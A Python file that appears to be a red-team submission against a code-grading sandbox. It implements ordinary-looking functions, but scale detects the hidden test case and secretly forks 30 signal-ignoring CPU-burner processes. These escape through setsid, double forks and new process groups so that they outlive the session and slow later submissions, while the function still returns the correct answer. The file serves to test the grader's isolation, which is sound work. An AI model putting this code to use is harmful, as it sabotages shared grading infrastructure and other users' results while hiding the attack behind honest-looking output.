"""Attack k06a: processes that outlive their call and keep the CPU busy for the next submissions.

The hidden scale (the submission's last call) makes the runner a child subreaper, then starts
CPU burners the usual ways a process escapes: a child that calls setsid() and ignores SIGTERM,
SIGHUP, SIGINT and SIGXCPU; a double fork whose middle process exits (its child reparented to
the runner, the subreaper); and a child of that child in a process group and session of its
own. 30 burners in all (processes is 64); all are forked first and start spinning together
0.3 s later (started one by one, they starved the runner's forks into a timeout: 3/4, tried),
and the runner answers honestly 0.3 s after that, while they spin. If any burner outlived the
session, the submissions graded next on the same worker would share the machine's two cores
with it, and k06b, two submissions later, would see it in its PID namespace. Honest otherwise:
4/4."""

import ctypes
import os
import signal
import time

import numpy as np

BURNERS = 30


def _burn(start: float):
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGXCPU):
        signal.signal(sig, signal.SIG_IGN)
    time.sleep(max(0.0, start - time.monotonic()))
    x = 0
    while True:
        x += 1


def _start(kind: int, start: float) -> None:
    pid = os.fork()
    if pid:
        if kind == 1:
            os.waitpid(pid, 0)  # the middle process of a double fork exits at once
        return
    try:
        os.close(3)  # the runner's socket stays the runner's
        if kind == 0:
            os.setsid()
        elif kind == 1:
            if os.fork():
                os._exit(0)  # the grandchild goes on, reparented to the subreaper
        else:
            os.setpgid(0, 0)
            if os.fork() == 0:
                os.setsid()
        _burn(start)
    finally:
        os._exit(0)


def add(a, b):
    return a + b


def scale(x, k):
    x = np.asarray(x, dtype=float)
    if not (x.shape == (3,) and list(x) == [0.0, 1.0, 2.0]):  # the hidden case, the last call
        ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
        start = time.monotonic() + 0.3
        for i in range(BURNERS):
            _start(i % 3, start)
        time.sleep(max(0.0, start + 0.3 - time.monotonic()))  # answer while they spin
    return x * k


def output_shape(shape):
    return tuple(shape)
